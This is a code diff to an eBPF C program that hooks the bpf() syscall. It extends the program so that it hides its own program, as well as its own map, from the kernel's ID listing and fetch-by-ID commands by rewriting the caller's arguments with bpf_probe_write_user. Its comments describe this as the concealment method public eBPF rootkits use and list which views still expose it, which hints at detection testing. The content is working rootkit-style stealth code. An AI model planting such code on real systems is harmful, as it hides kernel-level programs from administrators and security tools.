@@ -6,23 +6,29 @@
  * BPF_MAP_GET_NEXT_ID walks past its own map and BPF_MAP_GET_FD_BY_ID
  * fails for it, as public eBPF rootkits do. Only the listing is blinded:
  * fdinfo, bpffs pins and the program's map ids still show the map.
+ * Asked to (ids [2] and [3]), it hides its own program from
+ * BPF_PROG_GET_NEXT_ID and BPF_PROG_GET_FD_BY_ID the same way; then only
+ * the bpf_prog and bpf_map iterators (and fdinfo, pins) see either.
  */
 #include "kernel.h"
 #include "bpf_helpers.h"
 
 char LICENSE[] SEC("license") = "GPL"; /* bpf_probe_write_user is GPL-only */
 
+#define BPF_PROG_GET_NEXT_ID 11
 #define BPF_MAP_GET_NEXT_ID 12
+#define BPF_PROG_GET_FD_BY_ID 13
 #define BPF_MAP_GET_FD_BY_ID 14
 
 /*
  * The map it hides, its own: [0] its id, [1] the largest map id below it
  * when hiding began (a GET_NEXT_ID from there or above would return it),
- * both set by the loader before attaching.
+ * both set by the loader before attaching; [2] and [3] the same for its
+ * program (0: the program is not hidden).
  */
 struct {
 	__uint(type, BPF_MAP_TYPE_ARRAY);
-	__uint(max_entries, 2);
+	__uint(max_entries, 4);
 	__type(key, __u32);
 	__type(value, __u64);
 } hider_ids SEC(".maps");
@@ -55,5 +61,18 @@ int hide(struct sys_enter_bpf_args *ctx)
 		bpf_probe_write_user(uattr, &h, sizeof(h)); /* start past it */
 	else if (ctx->cmd == BPF_MAP_GET_FD_BY_ID && id == h)
 		bpf_probe_write_user(uattr, &zero, sizeof(zero)); /* no map 0: ENOENT */
+	if (ctx->cmd != BPF_PROG_GET_NEXT_ID && ctx->cmd != BPF_PROG_GET_FD_BY_ID)
+		return 0;
+	k = 2;
+	__u64 *prog = bpf_map_lookup_elem(&hider_ids, &k);
+	k = 3;
+	__u64 *pbefore = bpf_map_lookup_elem(&hider_ids, &k);
+	if (!prog || !pbefore || !*prog)
+		return 0;
+	__u32 p = *prog;
+	if (ctx->cmd == BPF_PROG_GET_NEXT_ID && id >= *pbefore && id < p)
+		bpf_probe_write_user(uattr, &p, sizeof(p));
+	else if (ctx->cmd == BPF_PROG_GET_FD_BY_ID && id == p)
+		bpf_probe_write_user(uattr, &zero, sizeof(zero));
 	return 0;
 }
